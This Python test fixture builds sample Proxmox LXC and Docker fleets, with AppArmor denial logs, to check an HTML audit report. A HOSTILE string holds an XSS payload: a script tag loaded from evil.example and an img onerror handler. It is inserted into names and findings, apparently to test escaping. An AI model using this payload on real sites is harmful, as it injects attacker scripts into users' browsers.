"""A small fleet as an audit finds it, and a large one: what the page of the report is made of."""

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from phoenix.apparmor.denials import Denial, Flood, ObservedDenials, Owner, read_line
from phoenix.apparmor.observed import ObservedAppArmor
from phoenix.docker.fallen import Fallen, Thing
from phoenix.docker.observed import ObservedDocker, Workload
from phoenix.fleet.parse import parse_fleet
from phoenix.plan.actions import ContainerChange, NodePlan
from phoenix.plan.audit import audit_node
from phoenix.plan.facts import NodeFacts
from phoenix.plan.findings import Code, Finding, Severity
from phoenix.plan.options import Options
from phoenix.plan.reasons import Reason, Why
from phoenix.pve.conf import PveConf
from phoenix.pve.observed import ObservedContainer, ObservedPct
from phoenix.pve.versions import ObservedVersions
from phoenix.report.audit import NodeReport, audit_data
from phoenix.report.denial_groups import group_denials
from phoenix.report.page import audit_page

NOW = datetime(2026, 11, 27, 18, tzinfo=UTC)
BEGIN = NOW - timedelta(days=2)
HOUR = 3600
TEMPLATE = (Path(__file__).parents[2] / "templates/report/audit.html.j2").read_text()
PROFILE = "lxc-docker-nested"
DOCKER = {"features": ["docker"], "apparmor_profile": PROFILE}


def container(ctid, name, label, *lines):
    conf = PveConf("\n".join([f"hostname: {name}", "unprivileged: 1", *lines, ""]))
    started = int(BEGIN.timestamp()) - HOUR if label else None
    return ObservedContainer(ctid, conf, label is not None, 1, label, None, "pve1", started)


def docker(*workloads, version="28.5.2", **changes):
    values = {"runc": "1.3.6", "os": "debian 13", "images": len(workloads), "volumes": 1}
    return ObservedDocker(
        "ok",
        version,
        "overlay2",
        containers=len(workloads),
        running=sum(one.state == "running" for one in workloads),
        workloads=workloads,
        **{**values, **changes},
    )


def denial(line, spread, *, owner=None):
    read = read_line(f"audit({NOW.timestamp()}:1): {line}")
    first, last = (BEGIN.timestamp() + spread[place][0] * HOUR for place in (0, -1))
    return Denial(
        sum(lines for _, lines in spread),
        last,
        read.complain,
        read.fields,
        first=first,
        spread=tuple(spread),
        owner=owner,
    )


NESTED = f"{PROFILE} (enforce)"
CONTAINERS = (
    container(910, "portainer", NESTED),
    container(952, "vectors", NESTED),
    container(
        953, "proxy", "lxc-953_</var/lib/lxc>//&:lxc-953_<-var-lib-lxc>:unconfined (enforce)"
    ),
    container(954, "flows", "unconfined", "lxc.cgroup2.devices.allow: a", "lxc.cap.drop:"),
    container(956, "chat", f"{PROFILE}-complain (complain)"),
    container(960, "metrics", NESTED),
    container(961, "old-shop", None, "lxc.apparmor.profile: unconfined"),
)
FLEET = {
    **{str(ctid): DOCKER for ctid in (910, 952, 954, 960)},
    "953": {"apparmor_profile": "generated"},
    "956": {**DOCKER, "mode": "complain"},
}
DOCKERS = {
    910: docker(Workload("portainer", "running", "portainer/portainer-ce:2.33")),
    952: docker(Workload("qdrant", "running", "qdrant/qdrant:v1.15")),
    954: docker(
        Workload("n8n", "running", "n8nio/n8n:1.115"),
        Workload("postgres", "running", "postgres:17"),
        Workload("backup", "exited", "offen/docker-volume-backup:v2"),
        unconfined=(("n8n", "apparmor=unconfined"),),
    ),
    956: docker(
        Workload("open-webui", "running", "ghcr.io/open-webui/open-webui:0.6"),
        Workload("ollama", "running", "ollama/ollama:0.12"),
        version="26.1.5",
        runc="1.1.15",
        holds=("containerd.io",),
    ),
    960: docker(
        *(
            Workload(name, state, f"{image}:latest")
            for name, state, image in [
                ("prometheus", "running", "prom/prometheus"),
                ("grafana", "running", "grafana/grafana"),
                ("loki", "restarting", "grafana/loki"),
                ("alertmanager", "running", "prom/alertmanager"),
                ("node-exporter", "running", "prom/node-exporter"),
            ]
        )
    ),
}
DENIALS = (
    denial(
        f'apparmor="DENIED" operation="open" class="file" profile="{PROFILE}" name="/proc/kcore" '
        'comm="strings" requested_mask="r" denied_mask="r" fsuid=100000 ouid=0',
        [(31, 2)],
        owner=Owner(952, "ab" * 32, "qdrant"),
    ),
    denial(
        f'apparmor="DENIED" operation="create" class="net" profile="{PROFILE}" comm="dockerd" '
        'family="vsock" sock_type="stream" protocol=0 requested_mask="create"',
        [(hour, 1 + hour % 3) for hour in range(2, 48, 4)],
    ),
    denial(
        f'apparmor="ALLOWED" operation="mount" class="mount" profile="{PROFILE}-complain" '
        'name="/data/models/" comm="ollama" fstype="nfs4" srcname="nas:/models"',
        [(hour, hour % 5 + 1) for hour in range(20, 47)],
        owner=Owner(956, "cd" * 32, "ollama"),
    ),
    denial(
        f'apparmor="ALLOWED" operation="capable" class="cap" profile="{PROFILE}-complain" '
        'comm="webui" capability=24 capname="sys_resource"',
        [(hour, 4) for hour in range(26, 40, 2)],
    ),
)


def report():
    """The audit of the small fleet."""
    fleet = parse_fleet(json.dumps({"lxc_configs": FLEET}).encode())
    pct = ObservedPct("pve1", {one.ctid: one for one in CONTAINERS})
    becomes = Reason(Why.PROFILE, f"profile: unconfined becomes {PROFILE}")
    conf = pct.containers[954].conf
    change = ContainerChange(954, "flows", conf, conf, None, True, True, (becomes,))
    facts = NodeFacts(
        containers=pct,
        apparmor=ObservedAppArmor(enabled=True, parser=(4, 1, 0)),
        dockers=DOCKERS,
        fallen={960: Fallen("r1", (Thing("container", "loki", "is restarting, it was running"),))},
        versions=ObservedVersions(
            "6.17.13-2-pve",
            "#1 SMP PREEMPT_DYNAMIC PMX 6.17.13-2 (2026-03-13T08:06Z)",
            {"pve-manager": "9.1.2", "lxc-pve": "6.0.5-2", "apparmor": "4.1.0-1"},
        ),
        denials=ObservedDenials("audit.log", denials=DENIALS, begin=BEGIN.timestamp(), width=HOUR),
    )
    plan = NodePlan("pve1", containers=(change,))
    options = Options()
    found = audit_node(fleet=fleet, options=options, facts=facts, plan=plan)
    groups = group_denials(facts.denials, pct.containers, options)
    return NodeReport(found, facts.denials, groups, facts)


def data(*reports):
    return audit_data(reports or (report(),), "phoenix_lxc_configs.json", NOW)


def page(*reports):
    return audit_page(data(*reports), TEMPLATE)


HOSTILE = '"><script src=//evil.example/x.js></script><img src=http://evil.example/ onerror=a()>'


def large(containers=1000, workloads=200):
    """A fleet whose guests say as much as they may, all of it markup and long words."""
    one = report()
    row = replace(one.audit.containers[3], name=HOSTILE, label="lxc-" + "x" * 300, docker=HOSTILE)
    rows = tuple(replace(row, ctid=1000 + number) for number in range(containers))
    findings = tuple(
        Finding(code, severity, f"{code} of {HOSTILE}", row.ctid, HOSTILE, f"{HOSTILE} {row.ctid}")
        for row in rows
        for code, severity in (
            (Code.DRIFT, Severity.WARNING),
            (Code.COMPOSE, Severity.NOTE),
            (Code.FELL_OVER, Severity.NOTE),
        )
    )
    ran = docker(*(Workload(f"{'w' * 120}{n}", "exited", "i" * 250) for n in range(workloads)))
    audit = replace(one.audit, containers=rows, findings=findings)
    facts = replace(one.facts, dockers={row.ctid: ran for row in rows})
    line = (
        f'apparmor="DENIED" operation="open" profile="lxc-a" comm="{"c" * 90}" name="/{"n" * 900}'
    )
    kinds = tuple(denial(f'{line}{number}"', [(number % 48, 5)]) for number in range(500))
    flood = Flood("lxc-" + "f" * 200, 10**6, BEGIN.timestamp(), NOW.timestamp())
    seen = replace(one.seen, denials=kinds, floods=(flood,), left=10**6, missing="all of it")
    groups = [replace(one.denials[0], denial=kind) for kind in kinds]
    return NodeReport(audit, seen, groups, facts)
